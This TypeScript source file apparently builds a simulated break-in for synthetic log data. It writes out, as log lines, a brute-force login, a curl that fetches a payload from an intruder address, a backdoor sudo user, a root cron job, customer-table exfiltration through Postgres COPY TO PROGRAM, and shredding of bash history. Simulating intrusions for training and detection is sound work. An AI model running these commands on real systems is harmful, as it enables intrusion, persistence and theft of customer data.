import { deploy, guessedUsers, processId } from "../people.ts";
import { internalAddress, type HostName, type Scene } from "../scene.ts";
import { postgres } from "./database.ts";
import { failedGuess, sessionEnd, sessionStart, sudo } from "./login.ts";
import { cronJob } from "./system.ts";
import { access } from "./web.ts";

/** Where the intruder comes from; nothing else on the network ever does. */
const intruderAddress = "203.0.113.66";
const intruderUser = "sysupd";
const payload = "/var/tmp/.cache/kupd";

/**
 * A break-in: guesses at both machines, a password that fits, root by sudo, a new user with sudo rights, a job in
 * root's crontab; then the same from web1 on db1, and the customers' data taken out by the web server.
 */
export function playBreakIn(scene: Scene): void {
  const { random } = scene;
  for (let guess = 0; guess < 38; guess += 1) {
    const host: HostName = random.chance(0.85) ? "web1" : "db1";
    const user = random.pick(["root", "deploy", "deploy", random.pick(guessedUsers)]);
    failedGuess(scene, host, intruderAddress, user, user === "root" || user === "deploy");
    scene.wait(1_000, 9_000);
  }
  const first = sessionStart(scene, "web1", deploy, "password", intruderAddress);
  scene.wait(9_000, 20_000);
  takeOver(scene, "web1");

  const second = sessionStart(scene, "db1", deploy, "password", internalAddress.web1);
  scene.wait(8_000, 20_000);
  takeOver(scene, "db1");
  scene.wait(5_000, 15_000);
  postgres(scene, "postgres@shop", [
    "LOG",
    `duration: ${random.int(48_000, 62_000)}.${random.int(100, 999)} ms  statement: COPY public.customers TO PROGRAM 'gzip > /var/tmp/.cache/c.gz'`,
  ]);
  scene.wait(20_000, 60_000);
  sessionEnd(scene, second);
  scene.wait(20_000, 60_000);
  access(scene, {
    address: intruderAddress,
    method: "GET",
    path: "/static/.cache/c.gz",
    status: 200,
    bytes: 734_003_200,
    agent: "Wget/1.21.4",
  });
  scene.wait(5_000, 20_000);
  sudo(scene, "web1", deploy, "/usr/bin/shred -u /root/.bash_history");
  sessionEnd(scene, first);
}

function takeOver(scene: Scene, host: HostName): void {
  const { random } = scene;
  const uid = random.int(1_011, 1_019);
  sudo(scene, host, deploy, "/usr/bin/id");
  scene.wait(4_000, 12_000);
  sudo(scene, host, deploy, `/usr/bin/curl -fsSL http://${intruderAddress}:8000/k -o ${payload}`);
  scene.wait(2_000, 9_000);
  sudo(scene, host, deploy, `/usr/sbin/useradd -m -s /bin/bash ${intruderUser}`);
  const useradd = `useradd[${processId(random)}]`;
  scene.syslog(host, "auth.log", useradd, `new group: name=${intruderUser}, GID=${uid}`);
  scene.syslog(
    host,
    "auth.log",
    useradd,
    `new user: name=${intruderUser}, UID=${uid}, GID=${uid}, home=/home/${intruderUser}, shell=/bin/bash, from=/dev/pts/1`,
  );
  scene.wait(1_000, 4_000);
  sudo(scene, host, deploy, `/usr/sbin/usermod -aG sudo ${intruderUser}`);
  scene.syslog(host, "auth.log", `usermod[${processId(random)}]`, `add '${intruderUser}' to group 'sudo'`);
  scene.syslog(
    host,
    "auth.log",
    `passwd[${processId(random)}]`,
    `pam_unix(passwd:chauthtok): password changed for ${intruderUser}`,
  );
  scene.wait(3_000, 9_000);
  sudo(scene, host, deploy, "/usr/bin/crontab -e");
  const crontab = `crontab[${processId(random)}]`;
  scene.syslog(host, "syslog", crontab, "(root) BEGIN EDIT (root)");
  scene.wait(5_000, 15_000);
  scene.syslog(host, "syslog", crontab, "(root) REPLACE (root)");
  scene.syslog(host, "syslog", crontab, "(root) END EDIT (root)");
  scene.wait(30_000, 60_000);
  scene.syslog(host, "syslog", "cron[633]", "(root) RELOAD (crontabs/root)");
  cronJob(scene, host, "root", `${payload} >/dev/null 2>&1`);
  scene.syslog(
    host,
    "syslog",
    "kernel",
    `[${((scene.nowMs / 1_000) % 4_000_000).toFixed(6).padStart(12, " ")}] kupd[${processId(random)}]: memfd_create() called without MFD_EXEC or MFD_NOEXEC_SEAL set`,
  );
  scene.wait(1_000, 3_000);
}
